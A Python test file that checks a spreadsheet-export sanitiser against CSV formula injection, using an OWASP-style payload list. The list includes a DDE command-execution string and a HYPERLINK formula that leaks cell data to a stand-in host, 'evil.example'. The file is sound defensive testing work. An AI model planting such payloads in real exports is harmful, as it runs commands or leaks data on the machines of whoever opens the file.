"""`exports.safe_cell` over OWASP's CSV-injection list, and the Trends exports built on it: text
a spreadsheet would run as a formula comes quoted, numbers stay numbers."""

from __future__ import annotations

import datetime as dt

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.services import trends
from core.services.context import ServiceContext
from core.services.exports import safe_cell, safe_row
from core.services.users import Actor
from tests.dashboard.helpers import seed_report

OWASP = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Error: click")',
    "=1+2",
    " =1+2",  # spreadsheets trim leading spaces
    "\n=1+2",
    "\r\n=1+2",
    "\u00a0 =1+2",
    "@SUM(1)",
    "+1",
    "-1+2",
    "-2+3+cmd|' /C calc'!A0",
    "\tcmd",
    "\rcmd",
    "\t",
    "＝1+2",  # full-width forms, which some spreadsheets read as their ASCII twins
    "＋1",
    "－1",
    "＠SUM(1)",
]
KEPT = [
    "SWGR-1",
    "a=b",
    "1+2",
    "MΩ",
    "'=already quoted",
    "",
    "   ",
    None,
    -12.5,
    -1,
    0,
    True,
    dt.datetime(2025, 3, 1, tzinfo=dt.UTC),
]
FORMULA_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("value", OWASP)
def test_formula_text_is_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", KEPT)
def test_other_values_are_kept(value: object) -> None:
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


@given(st.text())
def test_no_text_reaches_a_spreadsheet_as_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    assert not cell.lstrip().startswith(FORMULA_STARTS)
    assert not cell.startswith(("\t", "\r", "\n"))
    assert safe_cell(cell) == cell  # quoting twice changes nothing


def test_a_row_keeps_its_keys_and_numbers() -> None:
    row = {"tag": "=cmd", "compliance_score": -12.5, "site": "Plant A"}
    assert safe_row(row) == {"tag": "'=cmd", "compliance_score": -12.5, "site": "Plant A"}


def test_the_trends_exports_quote_formula_text(
    ctx: ServiceContext, engineer: Actor, manager: Actor
) -> None:
    seed_report(ctx, engineer, tag="=cmd|' /C calc'!A0", site=" =1+2", readings_ohm=(5e6,))
    (analysis,) = trends.export_rows(ctx, manager, None, "analyses")
    assert analysis["equipment_tag"] == "'=cmd|' /C calc'!A0"
    assert analysis["site"] == "' =1+2"
    assert isinstance(analysis["compliance_score"], float)
    findings = list(trends.export_rows(ctx, manager, None, "findings"))
    assert findings and all(row["site"] == "' =1+2" for row in findings)
